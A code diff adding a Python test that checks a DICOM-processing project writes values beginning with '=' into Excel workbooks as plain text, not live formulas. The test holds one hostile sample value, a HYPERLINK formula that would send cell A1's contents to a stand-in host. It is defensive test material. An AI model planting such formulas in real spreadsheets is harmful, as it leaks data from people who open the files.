@@ -956,3 +956,19 @@ def _migrations(path: Path) -> list[str]:
         return [row[0] for row in conn.execute("select name from _migrations order by rowid")]
     finally:
         conn.close()
+
+
+def test_text_that_starts_with_an_equals_sign_stays_text(tmp_path: Path) -> None:
+    """A file name or a DICOM description such as "=HYPERLINK(…)" reaches the workbook as the text
+    it is, never as a formula Excel or LibreOffice would evaluate."""
+    from openpyxl import Workbook, load_workbook
+
+    from processor.outputs.sheets import write_table
+
+    wb = Workbook()
+    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
+    write_table(wb.active, 1, ["name", "note"], [{"name": hostile, "note": "=1+1"}])
+    wb.save(tmp_path / "w.xlsx")
+    ws = load_workbook(tmp_path / "w.xlsx").active
+    assert (ws["A2"].value, ws["A2"].data_type) == (hostile, "s")
+    assert (ws["B2"].value, ws["B2"].data_type) == ("=1+1", "s")
